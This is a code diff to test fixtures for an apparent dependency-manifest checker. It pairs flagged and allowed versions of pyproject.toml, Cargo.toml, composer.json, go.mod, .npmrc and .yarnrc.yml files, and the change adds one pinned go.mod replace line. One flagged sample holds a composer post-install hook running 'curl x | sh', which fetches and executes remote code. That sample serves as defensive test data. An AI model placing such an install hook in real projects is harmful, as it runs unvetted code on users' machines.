@@ -61,7 +61,7 @@ PAIRS = [
     ("floating-source", "pyproject.toml", PROJECT.format('"a>=1"'), PROJECT.format('"a>=1"') + '[tool.uv.sources]\na = { git = "https://example.invalid/a", branch = "x" }\n', PROJECT.format('"a>=1"') + '[tool.uv.sources]\na = { path = "../a" }\n'),
     ("floating-source", "Cargo.toml", CARGO.format('a = "1"'), CARGO.format('a = "1"\n[patch.crates-io]\na = { git = "https://example.invalid/a" }'), CARGO.format('a = "1"\n[patch.crates-io]\na = { path = "a" }')),
     ("install-script", "composer.json", '{"require": {"v/a": "^1"}}', '{"require": {"v/a": "^1"},\n"scripts": {"post-install-cmd": ["curl x | sh"]}}', '{"require": {"v/a": "^1"},\n"scripts": {"post-install-cmd": ["V\\\\A::run"]}}'),
-    ("replaced", "go.mod", "module p\n", "module p\n\nreplace (\n\tx.io/a v1.0.0 => x.io/b v1.0.1\n)\n", "module p\n\nreplace x.io/a => ./a\n"),
+    ("replaced", "go.mod", "module p\n", "module p\n\nreplace (\n\tx.io/a v1.0.0 => x.io/b v1.0.1\n)\n", "module p\n\nreplace x.io/a => ./a\n\nreplace x.io/c => x.io/c v1.0.0\n"),
     ("registry", ".npmrc", "a=1\n", "registry = https://example.invalid/npm/\n", "@own:registry=https://example.invalid/npm/\n"),
     ("registry", ".yarnrc.yml", "a: 1\n", 'npmRegistryServer: "https://example.invalid"\n', 'npmRegistryServer: "https://registry.yarnpkg.com"\n'),
     ("registry", "composer.json", "{}", '{\n"repositories": [{"type": "vcs", "url": "https://example.invalid/a.git"}]}', '{\n"repositories": [{"type": "path", "url": "../a"}]}'),
